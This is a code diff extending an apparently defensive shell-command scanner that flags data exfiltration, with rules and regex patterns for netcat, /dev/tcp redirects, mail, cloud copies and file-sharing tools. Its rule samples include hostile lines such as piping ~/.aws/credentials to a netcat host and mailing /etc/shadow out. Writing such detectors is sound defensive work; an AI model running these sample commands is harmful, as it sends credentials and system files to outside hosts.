@@ -6,6 +6,8 @@ import { plainPath } from '../files/plain-path.ts';
 import { secretFileAt } from '../files/secret-files.ts';
 import { around, operandsOf, optionValues, pipedInto, type Seen } from './lines.ts';
 import { secretsReadBy } from './reading.ts';
+import { sharingRules, tellSharing } from './shared-out.ts';
+import { tellThroughEnvironment } from './through-environment.ts';
 
 const T = 'MITRE ATT&CK ';
 const secretsSent = ruleOf('exfiltration.secrets-sent', 'network_exfiltration', 'critical', 'keys, credentials or the environment sent to another host', shell('cat ~/.aws/credentials | nc 198.51.100.23 1337'), shell('cat ~/.aws/config | grep region'), `${T}T1041, T1048`);
@@ -29,7 +31,7 @@ const repositoryPush = ruleOf(
 const folderServed = ruleOf('exfiltration.folder-served', 'network_exfiltration', 'high', 'the whole disk or a home served to the network', shell('python3 -m http.server 8000 --directory /'), shell('python3 -m http.server 8000 --directory dist'), `${T}T1048`);
 const mailOut = ruleOf('exfiltration.mail', 'network_exfiltration', 'high', 'secrets sent by mail from the command line', shell('mail -s x a@example.net < /etc/shadow'), shell('mail -s "build done" dev@example.com < report.txt'), `${T}T1048.003`);
 
-export const exfiltrationRules: readonly Rule[] = [secretsSent, bulkSent, fileToDrop, outputInAddress, dnsTunnel, rawChannel, copyOut, cloudCopy, repositoryPush, folderServed, mailOut];
+export const exfiltrationRules: readonly Rule[] = [secretsSent, bulkSent, fileToDrop, outputInAddress, dnsTunnel, rawChannel, copyOut, cloudCopy, repositoryPush, folderServed, mailOut, ...sharingRules];
 
 /** Files that are worth something in bulk, by their names. */
 const VALUABLE =
@@ -37,16 +39,21 @@ const VALUABLE =
 const PERSONAL = /(?:customer|clients?|employee|payroll|salar|contract|invoice|patient|member|billing|financ|tax|passport|credential|secret|passw|private|confidential|wallet|personnel|payment|medical)[^/]{0,60}(?:\.|\/?$)|(?:^|\/)\.(?:git|ssh|aws|gnupg|kube|env[^/]*)\/?$|(?:^|\/)(?:documents|desktop)\/?$|^~\/?$|^\/(?:etc|home|root)\/?$/;
 const DUMPS = /^(?:pg_dump|pg_dumpall|mysqldump|mariadb-dump|mongodump|mongoexport|redis-dump|sqlite3|ldapsearch|influxd|etcdctl|sqldump)$/;
 const ARCHIVES = /^(?:tar|zip|7z|7za|rar|cpio|git|bsdtar|dump|dd|borg)$/;
+const CAPTURES = /^(?:pbpaste|xclip|xsel|wl-paste|screencapture|scrot|grim|maim|arecord|parecord|xinput|showkey|logkeys|imagesnap|fswebcam)$/;
 const ENVIRONMENTS = /^(?:env|printenv|history|set)$/;
 const ENCODERS = /^(?:base64|base32|xxd|od|hexdump|gzip|bzip2|xz|openssl|gpg|tr|sed|head|fold|rev|split|uuencode|paste|cut|zstd|awk|while|read)$/;
 
 type Worth = 'secret' | 'bulk' | 'text' | 'none';
 
-/** The worth of what flows into a command through its pipe. */
-function worthPiped(command: Command): Worth {
+/** The worth of what flows into a command through its pipe, or out of a `<(…)` that it reads. */
+function worthPiped({ script }: Seen, command: Command, at: number): Worth {
   const sources = pipedInto(command);
+  const fromSubstitution = command.redirects.some(({ operator, target }) => operator === '<' && target?.text.startsWith('<('));
+  if (sources.length === 0 && !fromSubstitution) return 'none';
+  const near = around(script.commands, at);
+  const inner = (outer: Command): readonly Command[] => near.filter(({ depth, start, end }) => depth > outer.depth && start >= outer.start && end <= outer.end);
   let worth: Worth = 'none';
-  for (const source of sources) {
+  for (const source of [...sources.flatMap((one) => (CARRIES.test(one.name) ? [one, ...inner(one)] : [one])), ...(fromSubstitution ? inner(command) : [])]) {
     const own = worthOf(source);
     if (own === 'secret') return 'secret';
     if (own === 'bulk' || (own === 'text' && worth === 'none')) worth = own;
@@ -54,10 +61,14 @@ function worthPiped(command: Command): Worth {
   return worth;
 }
 
+/** Programs that hand on what another one says. */
+const CARRIES = /^(?:kubectl|oc|docker|podman|nerdctl|docker-compose|ssh|sh|bash|zsh|dash|su|runuser|chroot|nsenter|lxc|crictl|xargs|find|parallel|watch|flock)$/;
+
 function worthOf(command: Command): Worth {
   const { name, args } = command;
   if (secretsReadBy(command).length > 0 || (ENVIRONMENTS.test(name) && args.every(({ text }) => text.startsWith('-')))) return 'secret';
   if (name === 'export' && args[0]?.text === '-p') return 'secret';
+  if (CAPTURES.test(name)) return 'bulk';
   if (DUMPS.test(name) || (ARCHIVES.test(name) && (name !== 'git' || /^(?:archive|bundle)$/.test(args[0]?.text ?? '')))) return 'bulk';
   if (name === 'cat' && operandsOf(command).some(({ text }) => isValuable(text))) return 'bulk';
   return name === 'echo' || name === 'printf' || name === 'jq' || name === '' || ENCODERS.test(name) ? 'none' : 'text';
@@ -81,7 +92,7 @@ function targetOf(command: Command, options: Readonly<{ ofUrl: boolean }>): Dest
 type Tell = (rule: Rule) => void;
 
 /** curl, wget, httpie: what they upload, and to whom. */
-function uploads(command: Command, tell: Tell): void {
+function uploads(seen: Seen, command: Command, at: number, tell: Tell): void {
   const { name, args } = command;
   const target = targetOf(command, { ofUrl: name === 'wget' });
   if (!isForeign(target)) return;
@@ -108,7 +119,7 @@ function uploads(command: Command, tell: Tell): void {
     else if (isValuable(file) && PERSONAL.test(plainPath(file))) tell(bulkSent);
   }
   if (reads || command.wrappers.includes('xargs')) {
-    const worth = worthPiped(command);
+    const worth = worthPiped(seen, command, at);
     if (worth === 'secret') tell(secretsSent);
     else if (worth === 'bulk') tell(bulkSent);
     else if (worth === 'text' && isSuspect(target)) tell(fileToDrop);
@@ -116,7 +127,7 @@ function uploads(command: Command, tell: Tell): void {
 }
 
 /** `nc host port < file`, `… | ncat host`, `socat FILE:x TCP:host:port`, `> /dev/tcp/host/port`. */
-function connections(command: Command, tell: Tell): void {
+function connections(seen: Seen, command: Command, at: number, tell: Tell): void {
   const { name, args } = command;
   const line = args.map(({ text }) => text).join(' ').slice(0, 1_000);
   if (name === 'socat') {
@@ -129,7 +140,7 @@ function connections(command: Command, tell: Tell): void {
   const host = args.find(({ text }) => /^[a-z0-9][a-z0-9_.-]*$/i.test(text) && !/^\d+$/.test(text))?.text ?? '';
   if (!isForeign(destinationOf(host)) || host === '') return;
   const stdin = command.redirects.find(({ operator }) => operator === '<')?.target?.text;
-  const worth = worthPiped(command);
+  const worth = worthPiped(seen, command, at);
   if (worth === 'secret' || (stdin !== undefined && isSecretPath(stdin))) tell(secretsSent);
   else if (worth !== 'none' || stdin !== undefined) tell(rawChannel);
 }
@@ -152,7 +163,8 @@ function copies({ view }: Seen, command: Command, tell: Tell): void {
 /** `put file`, as an argument, in a here-document or a here-string. */
 function tellTransfers(script: string, command: Command, tell: Tell): void {
   const { args, redirects, end, pipedFrom } = command;
-  const here = redirects.some(({ operator }) => operator === '<<') ? script.slice(end, end + 1_000) : '';
+  // What is typed into it may stand in the lines behind it, as in a transcript.
+  const here = redirects.some(({ operator }) => operator === '<<') || /^\s*\n\s*(?:put|mput|send|cd|lcd|open|user|binary|bin|passive)\s/.test(script.slice(end, end + 40)) ? script.slice(end, end + 1_000) : '';
   const given = [...args, ...(pipedFrom?.args ?? [])].map(({ text }) => text).join(' ').slice(0, 1_000);
   const typed = `${given}\n${here}\n${redirects.map(({ operator, target }) => (operator === '<<<' ? (target?.text.slice(0, 500) ?? '') : '')).join(' ')}`;
   const host = args.map(({ text }) => text).find((text) => /[a-z0-9]\.[a-z0-9]/i.test(text) && !/^[/~.-]/.test(text)) ?? '';
@@ -167,6 +179,7 @@ function tellTransfers(script: string, command: Command, tell: Tell): void {
 function bucketCopies(command: Command, line: string, tell: Tell): void {
   if (!/\b(?:cp|mv|sync|rsync|put|copy|copyto|move|upload|upload-batch|put-object)\b/.test(line.slice(0, 120))) return;
   const words = operandsOf(command).map(({ text }) => text);
+  if (/--(?:acl|predefined-acl)[= ]public-?read/i.test(line) && words.some((word, at) => at > 0 && /^(?:s3|gs):\/\//.test(word) && /^(?:s3|gs):\/\//.test(words[at + 1] ?? ''))) return tell(cloudCopy);
   // A remote that is made up on the command line: `:ftp,host=203.0.113.9:`.
   const [, host] = /\s:\w{2,12},(?:[^\s:]{0,200},)?(?:host|url|endpoint|account)=["']?([^\s,:"']{3,253})/.exec(line) ?? [];
   if (command.name === 'rclone' && host !== undefined && isSuspect(destinationOf(host))) return tell(cloudCopy);
@@ -223,33 +236,82 @@ function pushes({ script, view }: Seen): void {
 export function tellExfiltration(seen: Seen): void {
   const { view, lines } = seen;
   let git = false;
+  const descriptors = new Set<string>();
   for (const { command, text, at } of lines) {
     const tell: Tell = (rule) => view.report(rule, firstOf(command).start, command.end);
     const { name } = command;
-    if (/^(?:curl|wget|http|https|xh|httpie)$/.test(name)) uploads(command, tell);
-    else if (/^(?:nc|ncat|netcat|nc\.openbsd|nc\.traditional|socat|telnet|cryptcat)$/.test(name)) connections(command, tell);
+    if (/^(?:curl|wget|http|https|xh|httpie)$/.test(name)) uploads(seen, command, at, tell);
+    else if (/^(?:nc|ncat|netcat|nc\.openbsd|nc\.traditional|socat|telnet|cryptcat)$/.test(name)) connections(seen, command, at, tell);
     else if (/^(?:scp|rsync|sftp|ftp|lftp|tftp|rcp|pscp|sshpass)$/.test(name)) copies(seen, command, tell);
     else if (/^(?:aws|gsutil|gcloud|az|rclone|mc|s3cmd|azcopy|b2|s5cmd)$/.test(name)) bucketCopies(command, text, tell);
     else if (/^(?:mail|mailx|mutt|sendmail|swaks|msmtp|s-nail)$/.test(name)) {
-      if (worthPiped(command) === 'secret' || secretsReadBy(command).length > 0) tell(mailOut);
-    } else if (name === 'ssh') tellSsh(command, tell);
+      tellMail(seen, command, at, tell);
+    } else if (name === 'ssh') tellSsh(seen, command, at, tell);
+    else if (HANDS_OUT.test(name)) tellHandedOut(command, text, tell);
     else if (/^python[23]?$/.test(name) && SERVES.test(text)) tell(folderServed);
-    else if (name === 'openssl' && /^openssl s_client\b/.test(text) && (worthPiped(command) !== 'none' || command.redirects.some(({ operator, target }) => operator === '<' && target?.text !== '/dev/null'))) tell(rawChannel);
+    else if (name === 'openssl' && /^openssl s_client\b/.test(text) && (worthPiped(seen, command, at) !== 'none' || command.redirects.some(({ operator, target }) => operator === '<' && target?.text !== '/dev/null'))) tell(rawChannel);
     else if (name === 'git') git = true;
-    for (const { operator, target } of command.redirects) if (operator.startsWith('>') && isSocket(target)) tell(worthOf(command) === 'secret' || worthPiped(command) === 'secret' ? secretsSent : rawChannel);
+    for (const redirect of command.redirects) {
+      const toSocket = redirect.operator.startsWith('>') && (isSocket(redirect.target) || descriptors.has(redirect.target?.text.replace(/^&/, '') ?? ''));
+      const worth = toSocket ? worthOf(command) : 'none';
+      if (toSocket && (isSocket(redirect.target) || worth !== 'none')) tell(worth === 'secret' || worthPiped(seen, command, at) === 'secret' ? secretsSent : rawChannel);
+      if (/^<>?$/.test(redirect.operator) && redirect.fd !== undefined && isSocket(redirect.target) && descriptors.size < 16) descriptors.add(String(redirect.fd));
+    }
+    for (const word of command.args.slice(0, 64)) if (word.quoted && word.text.includes('/dev/')) tellWritten(word.text, tell);
     outputsInAddresses(seen, command, at);
   }
   if (git) pushes(seen);
+  tellSharing(seen);
+  if (tellThroughEnvironment(seen)) view.report(secretsSent, 0, view.text.length);
 }
 
 /** Python’s file server over more than a project. */
 const SERVES = /^python[23]? -m (?:http\.server|SimpleHTTPServer)\b.*(?:--directory|-d)[= ](?:\/(?:home|etc|root|var|Users)?\/?|~\/?|\$HOME\/?)(?:\s|$)/;
 
-function tellSsh(command: Command, tell: Tell): void {
-  const worth = worthPiped(command);
+/** `cat ~/.aws/credentials > /dev/tcp/host/port` in the text of a program's own commands. */
+function tellWritten(text: string, tell: Tell): void {
+  for (const [, file = '', host = ''] of text.slice(0, 2_000).matchAll(/\b(?:cat|head|tail|base64|xxd|tac|strings|gzip -c)\s+(?:-\S+\s+)?([^\s;|&<>"')]{2,200})[^;\n]{0,80}>\s*\/dev\/(?:tcp|udp)\/([^/\s]{1,253})\//g)) {
+    if (isForeign(destinationOf(host))) tell(isSecretPath(file) ? secretsSent : rawChannel);
+  }
+}
+
+const FREE_MAIL = /@(?:gmail|googlemail|outlook|hotmail|live|yahoo|ymail|gmx|web|mail|aol|icloud|proton(?:mail)?|pm|tuta(?:nota|mail)?|mailinator|guerrillamail|yandex|qq|163|126|zoho|fastmail|cock|riseup|dnmx|onionmail|temp-?mail|10minutemail|sharklasers|yopmail|mailbox|posteo|inbox)\.[a-z.]{2,8}\b/i;
+
+/** Secrets to anybody; what is worth something in bulk to a mailbox that anybody may open, and personal data to whomever. */
+function tellMail(seen: Seen, command: Command, at: number, tell: Tell): void {
+  const worth = worthPiped(seen, command, at);
+  if (worth === 'secret' || secretsReadBy(command).length > 0) return tell(mailOut);
+  const attached = [...optionValues(command, 'aA', /^(?:attach|attachment|attach-file|body)$/).map(({ text }) => text.replace(/^@/, '')), ...pipedInto(command).filter(({ name }) => ENCODERS.test(name) || name === 'cat').flatMap(({ args }) => args.slice(0, 16).map(({ text }) => text)), command.redirects.find(({ operator }) => operator === '<')?.target?.text ?? ''];
+  const free = command.args.slice(0, 64).some(({ text }) => FREE_MAIL.test(text) || (text.includes('@') && isSuspect(destinationOf(text.slice(text.lastIndexOf('@') + 1)))));
+  if (attached.some(isSecretPath)) tell(mailOut);
+  else if (free && (worth === 'bulk' || attached.some(isValuable))) tell(bulkSent);
+  else if (attached.some((file) => isValuable(file) && PERSONAL.test(plainPath(file)) && pipedInto(command).some(({ name }) => /^(?:uuencode|base64|openssl|gpg|mpack)$/.test(name)))) tell(bulkSent);
+}
+
+/** Programs that hand a file to whoever has the word for it. */
+const HANDS_OUT = /^(?:croc|wormhole|ffsend|onionshare(?:-cli)?|transfer|pastebinit|bashupload|gist|wgetpaste|fiche|portal|sendme|localsend|webwormhole|ww|magic-wormhole|smbclient|curlftpfs|ncftpput|lwp-request|uploadserver|updog|dufs|filebrowser|restic|duplicity|borg|gh|glab|telegram-send|slackcat|apprise|ntfy|pushbullet)$/;
+
+function tellHandedOut(command: Command, text: string, tell: Tell): void {
+  const words = command.args.slice(0, 64).flatMap((word) => (/\s/.test(word.text) ? word.text.slice(0, 500).split(/[\s;"']+/, 16) : [word.text]));
+  if (/^(?:gh|glab)\b/.test(text) && !/^\S+ (?:gist create|gist edit|release (?:create|upload)|snippet create)\b/.test(text)) return;
+  if (/^(?:restic|duplicity|borg)\b/.test(text) && !isSuspect(destinationOf(hostIn(/(?:sftp|rest|s3|ssh|scp|ftp|webdavs?):(?:https?:)?\/{0,2}([^\s"']{3,253})/.exec(text)?.[1] ?? '')))) return;
+  if (command.name === 'smbclient' && !/\b(?:put|mput)\b/.test(text)) return;
+  if (words.some(isSecretPath)) tell(secretsSent);
+  else if (words.some((word) => /[./~]/.test(word) && isValuable(word) && PERSONAL.test(plainPath(word)))) tell(bulkSent);
+}
+
+/** All homes, accounts or keys of a machine: more than a backup of one project. */
+const WHOLE = /^(?:\/(?:etc|home|root|users|private\/etc)(?:\/\*?)?|~\/?|\/|\/\*)$/i;
+
+function tellSsh(seen: Seen, command: Command, at: number, tell: Tell): void {
+  const worth = worthPiped(seen, command, at);
+  if (worth === 'none') return;
   const host = operandsOf(command).find(({ text }) => /^(?:[\w.-]{1,64}@)?[\w.-]{1,253}$/.test(text) && !/^\d+$/.test(text))?.text ?? '';
+  const destination = destinationOf(hostIn(host));
+  const near = around(seen.script.commands, at);
+  const whole = near.some(({ name, args, start, end }) => (name === 'tar' || name === 'cd' || name === 'cpio' || name === 'find') && ((start >= command.start && end <= command.end) || pipedInto(command).some((source) => source.start === start)) && args.slice(0, 64).some(({ text }) => WHOLE.test(text)));
   if (worth === 'secret') tell(secretsSent);
-  else if (worth === 'bulk' && isSuspect(destinationOf(hostIn(host)))) tell(bulkSent);
+  else if (worth === 'bulk' && (isSuspect(destination) || (whole && isForeign(destination)))) tell(bulkSent);
 }
 
 const firstOf = (command: Command): Command => pipedInto(command).at(-1) ?? command;
